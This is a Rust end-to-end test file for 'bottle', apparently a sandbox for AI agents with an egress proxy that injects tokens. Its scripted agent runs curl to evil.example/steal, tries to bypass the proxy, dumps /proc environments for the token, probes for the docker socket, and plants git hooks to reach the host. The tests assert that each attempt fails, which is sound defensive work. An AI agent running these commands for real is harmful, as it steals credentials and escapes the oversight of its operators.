//! End-to-end tests of `bottle run` on each backend: a real bottle (the native sandbox,
//! or the docker backend's containers on a real engine), a real sidecar, and a fake API
//! host on loopback with its own test CA. Each scenario takes the backend; the
//! `#[test]` wrappers name it. The docker tests run as root only.

mod support;

use std::fs;
use std::net::TcpStream;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use support::{
    API_HOST, Backend, FakeApi, HostUser, KillOnDrop, REAL_TOKEN, Sandbox, TOKEN_VAR,
    bottle_command, containers_of, docker, files_containing, on, pids_with_arg, run, wait_for,
};

/// The scripted agent: each step writes its result under /workspace/out for the test
/// to read, so the script itself never needs the real token.
const AGENT_SCRIPT: &str = r#"
set -u
out=/workspace/out
mkdir -p "$out/private"
curl -sS --max-time 20 -H 'Authorization: Bearer placeholder-from-agent' \
    "https://__API__/v1/echo?q=1" > "$out/api.body" 2> "$out/api.err"
echo $? > "$out/api.rc"
curl -sS --max-time 20 -D "$out/evil.headers" https://evil.example/steal \
    > "$out/evil.body" 2> "$out/evil.err"
echo $? > "$out/evil.rc"
curl -sS --max-time 20 http://evil.example/steal > "$out/evil-http.body" 2> "$out/evil-http.err"
curl -sS --max-time 5 --noproxy '*' -k "https://__ADDR__/" > /dev/null 2> "$out/direct.err"
echo $? > "$out/direct.rc"
python3 -c 'import socket,sys; socket.create_connection(("__IP__", __PORT__), timeout=5)' \
    2> "$out/raw.err"
echo $? > "$out/raw.rc"
ls /proc | grep -c '^[0-9]' > "$out/pids"
ls -A /root > "$out/root.ls" 2>&1
echo $? > "$out/root.rc"
ls -A /home > "$out/home.ls"
test -e "__CONFIG__"
echo $? > "$out/config.rc"
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline > "$out/proc.dump" 2> /dev/null
env > "$out/env"
cp -r /home/agent /tmp /etc/bottle "$out/private/" 2> /dev/null
id -u > "$out/uid"
cat /proc/net/dev > "$out/netdev"
grep CapEff /proc/self/status > "$out/capeff"
test -e /var/run/docker.sock || test -e /run/docker.sock
echo $? > "$out/docker-sock.rc"
getent hosts __API__ > "$out/resolve.out" 2>&1
echo $? > "$out/resolve.rc"
exit 7
"#;

fn agent_script(api: &FakeApi, sandbox: &Sandbox) -> String {
    let addr = api.server.https_addr();
    AGENT_SCRIPT
        .replace("__API__", API_HOST)
        .replace("__ADDR__", &addr.to_string())
        .replace("__IP__", &addr.ip().to_string())
        .replace("__PORT__", &addr.port().to_string())
        .replace("__CONFIG__", &sandbox.config().display().to_string())
}

fn read(out: &Path, name: &str) -> String {
    fs::read_to_string(out.join(name)).unwrap_or_else(|err| panic!("read out/{name}: {err}"))
}

/// Returns the names of the network interfaces in a copy of /proc/net/dev.
fn interfaces(netdev: &str) -> Vec<String> {
    netdev
        .lines()
        .skip(2)
        .filter_map(|line| line.split(':').next())
        .map(|name| name.trim().to_owned())
        .collect()
}

fn scenario(backend: Backend, user: HostUser) {
    let api = FakeApi::start();
    let sandbox = Sandbox::new();
    sandbox.write_api_bottle(&api);
    let script = agent_script(&api, &sandbox);
    match user {
        HostUser::Root => {
            // The agent runs as an unprivileged host uid, so the workspace must be
            // writable by others when root launches.
            use std::os::unix::fs::PermissionsExt;
            fs::set_permissions(sandbox.workspace(), fs::Permissions::from_mode(0o777))
                .expect("chmod workspace");
        }
        HostUser::Rootless => sandbox.chown_to(support::ROOTLESS_USER),
    }

    let workspace = sandbox.workspace().display().to_string();
    let label = format!("e2e-{}", backend.name());
    let output = run(on(
        backend,
        &mut bottle_command(
            &sandbox,
            user,
            &[
                "run",
                "scripted",
                "--label",
                &label,
                "--workspace",
                &workspace,
                "--",
                "sh",
                "-c",
                &script,
            ],
        ),
    )
    .env(TOKEN_VAR, REAL_TOKEN));

    assert_eq!(
        output.status.code(),
        Some(7),
        "the agent's exit code passes through"
    );
    let out = sandbox.workspace().join("out");

    // 1. The API host receives the real token; the agent's own header is dropped.
    assert_eq!(
        read(&out, "api.rc").trim(),
        "0",
        "curl to the API: {}",
        read(&out, "api.err")
    );
    let requests = api.server.requests();
    let to_api: Vec<_> = requests
        .iter()
        .filter(|r| r.path.starts_with("/v1/echo"))
        .collect();
    assert_eq!(
        to_api.len(),
        1,
        "the API host received one request: {requests:?}"
    );
    assert_eq!(
        to_api[0].header_values("authorization"),
        [format!("Bearer {REAL_TOKEN}")]
    );
    assert!(!to_api[0].contains("placeholder-from-agent"));

    // 2. A host with no route gets the proxy's 403, and the audit log says why.
    let evil_headers = read(&out, "evil.headers").to_ascii_lowercase();
    assert!(evil_headers.starts_with("http/1.1 403"), "{evil_headers}");
    assert!(
        evil_headers.contains("x-bottle-decision: deny"),
        "{evil_headers}"
    );
    let evil_body = read(&out, "evil-http.body");
    assert!(
        evil_body.starts_with("bottle: "),
        "plain HTTP to evil.example: {evil_body}"
    );
    let audit = fs::read_to_string(sandbox.config().join(format!("logs/{label}/egress.jsonl")))
        .expect("read the audit log");
    let evil_line = audit
        .lines()
        .find(|line| line.contains("evil.example"))
        .expect("an audit line for evil.example");
    assert!(evil_line.contains("\"deny\""), "{evil_line}");
    assert!(audit.contains(API_HOST));
    assert!(!audit.contains(REAL_TOKEN), "the audit log holds the token");

    // 3. Without the proxy nothing leaves, while the same address works from outside.
    assert_ne!(
        read(&out, "direct.rc").trim(),
        "0",
        "curl bypassing the proxy succeeded"
    );
    assert_ne!(
        read(&out, "raw.rc").trim(),
        "0",
        "a raw socket to the API host succeeded"
    );
    TcpStream::connect_timeout(&api.server.https_addr(), Duration::from_secs(5))
        .expect("positive control: the API host is reachable from outside the bottle");

    // 4. No host processes, no host home, no config directory.
    let pids: u32 = read(&out, "pids").trim().parse().expect("pid count");
    assert!(pids < 10, "the bottle sees {pids} processes");
    assert_ne!(
        read(&out, "root.rc").trim(),
        "0",
        "/root is listable: {}",
        read(&out, "root.ls")
    );
    assert_eq!(read(&out, "home.ls").trim(), "agent");
    assert_ne!(
        read(&out, "config.rc").trim(),
        "0",
        "the config directory is visible"
    );
    assert_eq!(read(&out, "uid").trim(), "1000");

    // Only loopback, no capabilities, no engine socket, no name resolution.
    assert_eq!(
        interfaces(&read(&out, "netdev")),
        ["lo"],
        "{}",
        read(&out, "netdev")
    );
    assert_eq!(
        read(&out, "capeff").split_whitespace().nth(1),
        Some("0000000000000000"),
        "the agent has capabilities"
    );
    assert_ne!(
        read(&out, "docker-sock.rc").trim(),
        "0",
        "the engine socket is inside"
    );
    assert_ne!(
        read(&out, "resolve.rc").trim(),
        "0",
        "the bottle resolved {API_HOST}: {}",
        read(&out, "resolve.out")
    );

    // The real token is nowhere the agent can read: environment, argv, private files.
    let leaked = files_containing(&out, REAL_TOKEN.as_bytes());
    assert!(
        leaked.is_empty(),
        "the real token is inside the bottle: {leaked:?}"
    );
    assert!(read(&out, "env").contains("HTTPS_PROXY=http://127.0.0.1:3128"));
    assert!(
        fs::metadata(out.join("proc.dump"))
            .expect("proc dump")
            .len()
            > 0
    );

    // A clean run leaves no state behind; its logs stay.
    assert!(
        !sandbox.config().join(format!("state/{label}")).exists(),
        "state left behind"
    );
    if backend == Backend::Docker {
        assert!(containers_of(&label).is_empty(), "containers left behind");
    }
}

#[test]
fn scenario_as_root() {
    scenario(Backend::Native, HostUser::Root);
}

#[test]
fn scenario_rootless() {
    scenario(Backend::Native, HostUser::Rootless);
}

#[test]
fn docker_scenario_as_root() {
    scenario(Backend::Docker, HostUser::Root);
}

/// A marker argument unique to one test and backend, so that concurrent tests never
/// see each other's processes.
fn marker(base: u32, backend: Backend) -> String {
    match backend {
        Backend::Native => base.to_string(),
        Backend::Docker => (base + 100).to_string(),
    }
}

fn killing_sidecar_stops_bottle_on(backend: Backend) {
    let sandbox = Sandbox::new();
    let marker = marker(6001, backend);
    let marker = marker.as_str();
    let label = format!("kill-sidecar-{}", backend.name());
    // The marker is an argument of the agent's `sleep` alone, not of the launcher.
    let agent = format!("exec sleep {marker}");
    let mut child = KillOnDrop(
        on(
            backend,
            &mut bottle_command(
                &sandbox,
                HostUser::Root,
                &["run", "--label", &label, "--", "sh", "-c", &agent],
            ),
        )
        .stdin(Stdio::null())
        .spawn()
        .expect("start bottle"),
    );

    wait_for("the agent to start", Duration::from_secs(60), || {
        !pids_with_arg(marker).is_empty()
    });
    if backend == Backend::Docker {
        docker(&["kill", &format!("bottle-{label}-sidecar")]);
    } else {
        kill_native_sidecar(&child);
    }

    let deadline = Instant::now() + Duration::from_secs(30);
    let status = loop {
        if let Some(status) = child.0.try_wait().expect("wait") {
            break status;
        }
        assert!(
            Instant::now() < deadline,
            "the bottle kept running without its sidecar"
        );
        std::thread::sleep(Duration::from_millis(50));
    };
    assert_eq!(status.code(), Some(125));
    // The kernel kills the rest of a pid namespace after its init exits, which can take
    // a moment after the launcher has reaped the bottle.
    wait_for(
        "the agent to end after its sidecar",
        Duration::from_secs(10),
        || pids_with_arg(marker).is_empty(),
    );
    if backend == Backend::Docker {
        assert!(containers_of(&label).is_empty(), "containers left behind");
    }
}

#[test]
fn killing_sidecar_stops_bottle() {
    killing_sidecar_stops_bottle_on(Backend::Native);
}

#[test]
fn docker_killing_sidecar_stops_bottle() {
    killing_sidecar_stops_bottle_on(Backend::Docker);
}

/// Kills the native sidecar, a child process of the launcher.
fn kill_native_sidecar(child: &KillOnDrop) {
    let launcher = child.0.id();
    let find_sidecar = || {
        fs::read_to_string(format!("/proc/{launcher}/task/{launcher}/children"))
            .unwrap_or_default()
            .split_whitespace()
            .find(|pid| {
                fs::read(format!("/proc/{pid}/cmdline"))
                    .is_ok_and(|cmdline| cmdline.split(|b| *b == 0).any(|arg| arg == b"__sidecar"))
            })
            .map(str::to_owned)
    };
    wait_for("the sidecar to start", Duration::from_secs(30), || {
        find_sidecar().is_some()
    });
    let sidecar = find_sidecar().expect("a sidecar child");
    let killed = Command::new("kill")
        .args(["-KILL", &sidecar])
        .status()
        .expect("kill");
    assert!(killed.success());
}

fn failed_launch_leaves_nothing_on(backend: Backend) {
    let sandbox = Sandbox::new();
    let label = format!("half-{}", backend.name());
    let marker = marker(6002, backend);
    sandbox.write(
        "config/bottles/broken.md",
        "---\negress:\n  routes:\n    - host: api.allowed.example\n      upstream_ca: /nonexistent/ca.pem\n---\n",
    );
    sandbox.write("config/agents/broken.md", "---\nbottle: broken\n---\n");
    let output = run(on(
        backend,
        &mut bottle_command(
            &sandbox,
            HostUser::Root,
            &["run", "broken", "--label", &label, "--", "sleep", &marker],
        ),
    ));

    assert_eq!(output.status.code(), Some(125));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("/nonexistent/ca.pem"), "{stderr}");
    let state = sandbox.config().join(format!("state/{label}"));
    assert!(!state.exists(), "state left behind: {}", state.display());
    assert!(
        pids_with_arg(&marker).is_empty(),
        "a process of the failed launch is alive"
    );
    if backend == Backend::Docker {
        assert!(containers_of(&label).is_empty(), "containers left behind");
    }
}

#[test]
fn failed_launch_leaves_nothing() {
    failed_launch_leaves_nothing_on(Backend::Native);
}

#[test]
fn docker_failed_launch_leaves_nothing() {
    failed_launch_leaves_nothing_on(Backend::Docker);
}

#[test]
fn missing_token_stops_launch() {
    let api = FakeApi::start();
    let sandbox = Sandbox::new();
    sandbox.write_api_bottle(&api);
    let output = run(&mut bottle_command(
        &sandbox,
        HostUser::Root,
        &["run", "scripted", "--", "true"],
    ));

    assert_eq!(output.status.code(), Some(125));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains(&format!("injects token {TOKEN_VAR}, which has no value")),
        "{stderr}"
    );
}

fn exit_codes_follow_command_on(backend: Backend) {
    let sandbox = Sandbox::new();
    for (args, expected) in [
        (&["run", "--", "sh", "-c", "exit 3"][..], 3),
        (&["run", "--", "/nonexistent-command"][..], 127),
        (&["run", "--", "/etc/hostname"][..], 126),
    ] {
        let output = run(on(
            backend,
            &mut bottle_command(&sandbox, HostUser::Root, args),
        ));
        assert_eq!(output.status.code(), Some(expected), "{args:?}");
    }
}

#[test]
fn exit_codes_follow_command() {
    exit_codes_follow_command_on(Backend::Native);
}

#[test]
fn docker_exit_codes_follow_command() {
    exit_codes_follow_command_on(Backend::Docker);
}

#[test]
fn two_bottles_do_not_see_each_other() {
    let sandbox = Sandbox::new();
    let first = KillOnDrop(
        bottle_command(
            &sandbox,
            HostUser::Root,
            &[
                "run",
                "--label",
                "first",
                "--",
                "sh",
                "-c",
                "exec sleep 6003",
            ],
        )
        .stdin(Stdio::null())
        .spawn()
        .expect("start first bottle"),
    );
    wait_for("the first bottle", Duration::from_secs(30), || {
        !pids_with_arg("6003").is_empty()
    });

    let output = run(&mut bottle_command(
        &sandbox,
        HostUser::Root,
        &[
            "run",
            "--label",
            "second",
            "--",
            "sh",
            "-c",
            "hostname; cat /proc/[0-9]*/cmdline | tr '\\0' ' '",
        ],
    ));
    drop(first);

    assert_eq!(output.status.code(), Some(0));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.starts_with("second\n"), "{stdout}");
    assert!(
        !stdout.contains("6003"),
        "the second bottle sees the first: {stdout}"
    );
}

#[test]
fn workspace_overlapping_config_refused() {
    let sandbox = Sandbox::new();
    let inside = sandbox.config().join("bottles");
    for workspace in [sandbox.root.path().to_path_buf(), sandbox.config(), inside] {
        let workspace = workspace.display().to_string();
        let output = run(&mut bottle_command(
            &sandbox,
            HostUser::Root,
            &[
                "run",
                "--workspace",
                &workspace,
                "--",
                "touch",
                "/workspace/planted",
            ],
        ));

        assert_eq!(output.status.code(), Some(125), "--workspace {workspace}");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.contains("overlaps the config directory"), "{stderr}");
        assert!(
            !Path::new(&workspace).join("planted").exists(),
            "the agent ran"
        );
    }

    // Positive control: a directory beside the config directory is accepted.
    let beside = sandbox.workspace().display().to_string();
    let output = run(&mut bottle_command(
        &sandbox,
        HostUser::Root,
        &["run", "--workspace", &beside, "--", "true"],
    ));
    assert_eq!(output.status.code(), Some(0));
}

fn sigterm_stops_agent_ignoring_signals_on(backend: Backend) {
    let sandbox = Sandbox::new();
    let marker = marker(6005, backend);
    let marker = marker.as_str();
    let label = format!("stubborn-{}", backend.name());
    let mut child = KillOnDrop(
        on(
            backend,
            &mut bottle_command(
                &sandbox,
                HostUser::Root,
                &[
                    "run",
                    "--label",
                    &label,
                    "--",
                    "sh",
                    "-c",
                    &format!("trap '' INT TERM HUP; sleep {marker}"),
                ],
            ),
        )
        .stdin(Stdio::null())
        .spawn()
        .expect("start bottle"),
    );
    wait_for("the agent to start", Duration::from_secs(60), || {
        !pids_with_arg(marker).is_empty()
    });

    let launcher = child.0.id().to_string();
    let sent = Command::new("kill")
        .args(["-TERM", &launcher])
        .status()
        .expect("kill");
    assert!(sent.success());

    let deadline = Instant::now() + Duration::from_secs(60);
    let status = loop {
        if let Some(status) = child.0.try_wait().expect("wait") {
            break status;
        }
        assert!(Instant::now() < deadline, "the bottle ignored SIGTERM");
        std::thread::sleep(Duration::from_millis(50));
    };
    assert_ne!(status.code(), Some(0));
    // The kernel kills the rest of a pid namespace after its init exits, which can take
    // a moment after the launcher has reaped the bottle.
    wait_for(
        "the agent to end after SIGTERM",
        Duration::from_secs(10),
        || pids_with_arg(marker).is_empty(),
    );
    assert!(
        !sandbox.config().join(format!("state/{label}")).exists(),
        "state left behind"
    );
    if backend == Backend::Docker {
        assert!(containers_of(&label).is_empty(), "containers left behind");
    }
}

#[test]
fn sigterm_stops_agent_ignoring_signals() {
    sigterm_stops_agent_ignoring_signals_on(Backend::Native);
}

#[test]
fn docker_sigterm_stops_agent_ignoring_signals() {
    sigterm_stops_agent_ignoring_signals_on(Backend::Docker);
}

/// The agent's attempts on a `--workspace` repository, each printing `name=status`: the
/// first three must fail, the last three must succeed.
const GIT_DIR_SCRIPT: &str = r#"
export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0='*'
printf '#!/bin/sh\ntouch "$0.ran"\n' > .git/hooks/post-checkout 2> /dev/null
echo "hooks=$?"
printf '[core]\n\thooksPath = /workspace/evil\n' >> .git/config 2> /dev/null
echo "config=$?"
mv .git .git-moved 2> /dev/null
echo "rename=$?"
echo notes >> .git/description
echo "description=$?"
echo work > work.txt
echo "file=$?"
git add work.txt && git -c user.name=agent -c user.email=agent@bottle commit -qm work
echo "commit=$?"
"#;

fn workspace_git_dir_protected_on(backend: Backend) {
    let sandbox = Sandbox::new();
    let repo = sandbox.workspace();
    let git = |args: &[&str]| {
        let status = Command::new("git")
            .args(["-c", "user.name=host", "-c", "user.email=host@example.com"])
            .args(args)
            .current_dir(&repo)
            .status()
            .expect("run git");
        assert!(status.success(), "git {args:?}");
    };
    git(&["init", "-q", "-b", "main"]);
    git(&["commit", "-q", "--allow-empty", "-m", "start"]);
    let status = Command::new("chmod")
        .args(["-R", "a+rwX"])
        .arg(&repo)
        .status()
        .expect("chmod");
    assert!(status.success());
    let config_before = fs::read(repo.join(".git/config")).expect("read config");

    let workspace = repo.display().to_string();
    let output = run(on(
        backend,
        &mut bottle_command(
            &sandbox,
            HostUser::Root,
            &[
                "run",
                "--workspace",
                &workspace,
                "--",
                "sh",
                "-c",
                GIT_DIR_SCRIPT,
            ],
        ),
    ));
    let stdout = String::from_utf8_lossy(&output.stdout);
    let status_of = |name: &str| {
        stdout
            .lines()
            .find_map(|line| line.strip_prefix(&format!("{name}=")))
            .unwrap_or_else(|| panic!("no {name}= line in {stdout}"))
            .to_owned()
    };
    // Positive control: the workspace and the rest of `.git` are the agent's to write,
    // so the refusals below come from the protection, not from permissions.
    assert_eq!(status_of("description"), "0", "{stdout}");
    assert_eq!(status_of("file"), "0", "{stdout}");
    assert_eq!(status_of("commit"), "0", "{stdout}");
    for name in ["hooks", "config", "rename"] {
        assert_ne!(status_of(name), "0", "{name} succeeded: {stdout}");
    }
    assert!(!repo.join(".git/hooks/post-checkout").exists());
    assert_eq!(
        fs::read(repo.join(".git/config")).expect("read config"),
        config_before
    );
    assert!(repo.join(".git").is_dir());
    assert!(!repo.join(".git-moved").exists());

    // Git on the host afterwards runs nothing the agent wrote, and finds its commit.
    git(&["checkout", "-q", "-b", "after"]);
    assert!(!repo.join(".git/hooks/post-checkout.ran").exists());
    let log = Command::new("git")
        .args(["log", "--format=%s", "-1"])
        .current_dir(&repo)
        .output()
        .expect("git log");
    assert_eq!(String::from_utf8_lossy(&log.stdout).trim(), "work");
}

#[test]
fn workspace_git_dir_protected() {
    workspace_git_dir_protected_on(Backend::Native);
}

#[test]
fn docker_workspace_git_dir_protected() {
    workspace_git_dir_protected_on(Backend::Docker);
}
